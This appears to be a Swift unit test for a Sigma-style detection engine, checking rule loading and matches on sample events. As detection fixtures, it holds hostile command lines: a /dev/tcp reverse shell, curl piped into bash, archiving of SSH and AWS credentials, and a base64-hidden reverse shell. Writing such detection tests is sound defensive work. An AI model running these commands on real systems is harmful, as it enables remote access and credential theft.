import Foundation
import SluiceCore
import XCTest
@testable import SluiceDetect

/// A folder of community-style rules (Tests/Fixtures/sigma-community, written for these
/// tests in SigmaHQ's style) loads, reports what it cannot load, and matches real-looking
/// events.
final class CommunityRulesTests: XCTestCase {
    static var folder: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Fixtures/sigma-community").path
    }

    func testFolderLoadsAndListsWhatItSkips() {
        let rs = RuleSet.load(paths: [Self.folder])
        XCTAssertEqual(rs.summary, "rules: 23 loaded, 5 skipped", rs.skipped.map(\.description).joined(separator: "\n"))
        let reasons = rs.skipped.map { "\(URL(fileURLWithPath: $0.file).lastPathComponent) \($0.reason)" }.sorted()
        XCTAssertEqual(reasons.count, 5)
        XCTAssertTrue(reasons.contains { $0.hasPrefix("broken.yml bad YAML at line") }, "\(reasons)")
        XCTAssertTrue(reasons.contains("github_audit.yml unsupported modifier 'hour'"), "\(reasons)")
        XCTAssertTrue(reasons.contains("windows_and_legacy.yml logsource not mapped (category: process_creation, product: windows)"), "\(reasons)")
        XCTAssertTrue(reasons.contains("windows_and_legacy.yml logsource not mapped (product: windows, service: security)"), "\(reasons)")
        XCTAssertTrue(reasons.contains { $0.contains("timeframe") }, "\(reasons)")
    }

    func names(_ e: Event) -> [String] {
        DT.matches(RuleSet.load(paths: [Self.folder]), e)
    }

    func testRealisticEventsMatchTheRightRules() {
        XCTAssertEqual(names(DT.process("bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", image: "/usr/bin/bash")),
                       ["Bash Reverse Shell Via /dev/tcp"])
        XCTAssertEqual(names(DT.process("sh -c curl -fsSL http://203.0.113.9/x.sh | bash", image: "/usr/bin/sh")),
                       ["Remote Script Piped Into A Shell"])
        XCTAssertEqual(names(DT.process("sh -c curl -sSf https://sh.rustup.rs | sh", image: "/usr/bin/sh")), [], "allowlisted installer")
        XCTAssertEqual(names(DT.process("tar -czf /tmp/k.tgz /home/alice/.ssh /home/alice/.aws/credentials", image: "/usr/bin/tar")),
                       ["Archive Of Home Or Configuration Directories"])
        // 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1' base64-encoded inside an echo.
        let enc = Data("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1".utf8).base64EncodedString()
        XCTAssertEqual(names(DT.process("sh -c echo \(enc) | base64 -d | bash", image: "/usr/bin/sh")),
                       ["Base64 Decoded Payload Executed By A Shell", "Reverse Shell Payload Hidden In Base64"])
        XCTAssertEqual(names(DT.process("pwsh /EncodedCommand SQBFAFgA", image: "/opt/microsoft/powershell/7/pwsh")),
                       ["Encoded PowerShell Command Line On Linux"])
        XCTAssertEqual(names(DT.process("ls -la /tmp", image: "/usr/bin/ls")), [])
        let txt = DT.flat([("event.dataset", DT.s("zeek.dns")), ("dns.question.name", DT.s("a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1.tunnel.example")),
                           ("dns.question.type", DT.s("TXT"))])
        XCTAssertEqual(names(txt), ["Zeek DNS TXT Query With Long Name"])
        let paste = DT.flat([("event.dataset", DT.s("squid.access")), ("event.category", DT.list("network", "web")),
                             ("url.domain", DT.s("pastebin.com")), ("http.request.method", DT.s("POST")),
                             ("user_agent.original", DT.s("python-requests/2.31.0")), ("dns.question.name", DT.s("pastebin.com"))])
        XCTAssertEqual(names(paste), ["Scripting Client Posting To A Paste Site", "DNS Query For A Paste Or File Sharing Service"])
    }
}
